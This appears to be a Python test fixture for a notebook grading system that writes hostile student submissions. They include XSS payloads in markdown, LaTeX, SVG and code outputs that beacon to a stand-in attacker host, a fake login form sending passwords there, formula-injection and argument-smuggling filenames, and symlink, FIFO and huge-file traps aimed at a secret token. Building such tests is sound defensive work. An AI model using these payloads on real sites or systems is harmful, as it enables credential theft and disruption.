"""What the hostile students hand in. `EVIL` in a text stands for the address of the attacker's server."""

from __future__ import annotations

import base64
import copy
import json
import os
import struct
import zlib
from pathlib import Path
from typing import Any

from grader.author.cells import reference_answers
from grader.folder import CourseFolder
from grader.notebook.repair import grade_id

TEXTS = {
    "script": "<script>window.__pwned = 1; new Image().src = 'EVIL/script'</script>",
    "handler": "<img src=x onerror=\"window.__pwned = 1; new Image().src='EVIL/handler'\">",
    "svg": "<svg onload=\"window.__pwned = 1\"><a xlink:href='javascript:window.__pwned=1'><text>x</text></a></svg>",
    "iframe": '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe><object data=EVIL/object></object>',
    "form": "<form action='EVIL/form'><input name=password><button>log in again</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/refresh'><base href='EVIL/base/'>",
    "style": "<style>body { background: url(EVIL/style); } .score { display: none }</style>",
    "stylesheet": "<link rel=stylesheet href='EVIL/sheet'>",
    "comment": "Nothing to see below.\n\n<!-- swallows the results",
    "unclosed": "<div style='display:none'><textarea><plaintext>",
    "link": "[the figure](javascript:window.__pwned=1)",
    "bracketed link": "[the figure](< javascript:window.__pwned=1>)",
    "escaped link": "[the figure](javascript\\:window.__pwned=1)",
    "entity link": "[the figure](java&#115;cript:window.__pwned=1) [x](java&Tab;script:window.__pwned=1)",
    "twice escaped link": "[the figure](&amp;#106;avascript:window.__pwned=1)",
    "referred link": "[the figure][f]\n\n[f]: javascript:window.__pwned=1",
    "autolink": "<javascript:window.__pwned=1>",
    "vbscript": "[the figure](VBScript:x) [y](data:text/html,<script>window.__pwned=1</script>)",
    "quoted": "> 1. > <script>window.__pwned = 1</script>\n\n- <img src=EVIL/quoted>",
    "picture from elsewhere": "![a plot](EVIL/picture.png) ![b][p]\n\n[p]: EVIL/referred.png",
    "picture of the server": "![a plot](/logout) ![b](//EVIL_HOST/protocol.png)",
    "missing attachment": "![a plot](attachment:nowhere.png)",
    "maths": "$\\href{javascript:window.__pwned=1}{x} \\require{action} \\style{position:fixed;top:0}{x}$",
    "macro": "$\\def\\x#1{\\href{javas#1}{click}} \\x{cript:window.__pwned=1}$",
    "mermaid": "```mermaid\ngraph TD; a[\"<img src=x onerror='window.__pwned=1'>\"] --> b\n```",
    "code": "```html\n<script>window.__pwned = 1</script>\n```\n\n`<img src=EVIL/code>`",
    "anchor": "# test_softmax\n\n# softmax-comment",
    "panel": "## 04_softmax: 8 of 8 points\n\n**softmax** passed · 4 of 4 points",
    "bidi": "points \u202e5 fo 0\u202c and \u200bhidden\u2060 \U000e0041",
}

HONEST = """# My notes

A *list* of **what** I learnt, with `x < y & z`:

1. softmax of $x_i < 0$ is $\\frac{e^{x_i}}{\\sum_j e^{x_j}}$

| loss | value |
| --- | --- |
| mine | 0.25 |

See [the book](https://example.org/book?a=1&b=2), ![a dot](attachment:dot.png) and ![a figure](fig.png).
"""

OUTPUT = r"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
import matplotlib.pyplot as plt, sys
script = "<script>window.__pwned=1</script>"
for each in (HTML(script), Javascript("window.__pwned=1"), Markdown(script)):
    display(each)
display({"image/svg+xml": "<svg onload='window.__pwned=1'/>", "text/plain": "svg"}, raw=True)
display({"image/png": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "text/plain": "no png"}, raw=True)
latex = r"$\href{javascript:window.__pwned=1}{x}$"
display({"application/vnd.evil+json": "{}", "text/latex": latex, "text/plain": "x"}, raw=True)
print("<img src=x onerror='window.__pwned=1'>")
print("\x1b[2J\x1b]0;title\x07\x1b]8;;EVIL/osc\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x1b[31mred\x1b[0m \u202eturned")
print("working 10 %\rworking 100 %")
plt.plot([1, 2]); plt.title("<script>window.__pwned=1</script>"); plt.show()
class Named(Exception): pass
Named.__name__ = "<img src=x onerror='window.__pwned=1'>"
raise Named("\x1b]0;x\x07<script>window.__pwned=1</script>")
"""

SLOW = "print('\\x1b[0m' * 200_000)"
"""nbconvert copies all that follows at each escape."""

NAMES = (
    "=cmd|' !A0",
    "a*b",
    "[a]",
    "<script>x",
    "new\nline",
    "-rf",
    "\u202elive",
    os.fsdecode(b"\xff\xfe"),
    "p\u0430ypal",
)


def hand_in(folder: CourseFolder, assignment: str, token: str, evil: str) -> None:
    """Writes all hostile submissions, and two honest ones: `ada`, and `notes` with text, a picture and files."""
    write = Writer(folder, assignment, evil)
    write.notebook("ada", [])
    write.notebook("notes", [(HONEST, {"dot.png": {"image/png": picture(3, 3)}})])
    (folder.submission(assignment, "notes").parent / "fig.png").write_bytes(base64.b64decode(picture(4, 4)))
    write.notebook("texts", [(text, {}) for text in TEXTS.values()])
    write.notebook("outputs", [], OUTPUT)
    write.notebook("slow", [], SLOW)
    write.notebook("long", [("\\begin{a}" * 40_000, {})])
    hand_in_awkward(folder, assignment, token, write)
    (folder.root / "submitted" / "linked").symlink_to("ada")
    (folder.root / "submitted" / "copied").mkdir()
    (folder.root / "submitted" / "copied" / assignment).symlink_to(f"../ada/{assignment}")


def hand_in_awkward(folder: CourseFolder, assignment: str, token: str, write: Writer) -> None:
    """The student whose folder is full of traps, and those whose names are."""
    write.notebook("files", [])
    secret = folder.root / "secret.txt"
    secret.write_text(token)
    beside(folder.submission(assignment, "files").parent, secret)
    for name in NAMES:
        write.notebook(name, [])


def beside(place: Path, secret: Path) -> None:
    """Every kind of thing that can lie beside a notebook; `good.csv` is the only one that may go on."""
    (place / "good.csv").write_text("loss\n0.25\n")
    (place / "link.txt").symlink_to(secret)
    (place / "zero.txt").symlink_to("/dev/zero")
    (place / "tests").symlink_to(secret.parent / "tests")
    os.link(secret, place / "hard.txt")
    os.mkfifo(place / "pipe.txt")
    os.mkfifo(place / "timestamp.txt")
    with (place / "sparse.txt").open("wb") as file:
        file.truncate(2**40)
    (place / "many").mkdir()
    for number in range(2_500):
        (place / "many" / f"{number}.txt").touch()
    (place / "page.html").write_text("<script>window.__pwned = 1</script>")
    (place / "drawing.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    (place / "torch.py").write_text("raise SystemExit")
    (place / "extra.ipynb").write_text("{}")
    (place / "test_visible.py").mkdir()
    (place / "Good.csv").write_text("case")
    (place / "new\nline.txt").write_text("x")
    (place / "\x1b[31mred.txt").write_text("x")
    (place / os.fsdecode(b"\xff.txt")).write_text("x")


def picture(width: int, height: int, behind: bytes = b"") -> str:
    """A grey PNG as base64; only its header says how large it is."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zlib.compress((b"\x00" + b"\x80" * width) * height if width * height < 10_000 else b"")
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + behind
    return base64.b64encode(data).decode()


class Writer:
    """Writes solved notebooks with something added."""

    def __init__(self, folder: CourseFolder, assignment: str, evil: str) -> None:
        self.folder, self.assignment, self.evil = folder, assignment, evil
        self.solved = folder.released_notebook(assignment)
        answers = reference_answers(folder, assignment)
        for cell in self.solved["cells"]:
            cell["source"] = answers.get(grade_id(cell), cell["source"])

    def notebook(self, student: str, texts: list[tuple[str, dict[str, Any]]], code: str = "") -> None:
        notebook = copy.deepcopy(self.solved)
        for text, attachments in texts:
            cell = {"cell_type": "markdown", "metadata": {}, "source": self._aimed(text)}
            notebook["cells"].append({**cell, "attachments": attachments} if attachments else cell)
        if code:
            cell = {"cell_type": "code", "metadata": {}, "source": self._aimed(code), "outputs": []}
            notebook["cells"].append({**cell, "execution_count": None})
        for cell in notebook["cells"]:
            cell.pop("id", None)
        path = self.folder.root / "submitted" / student / self.assignment / f"{self.assignment}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(notebook), encoding="utf-8")

    def _aimed(self, text: str) -> str:
        return text.replace("EVIL_HOST", self.evil.partition("//")[2]).replace("EVIL", self.evil)
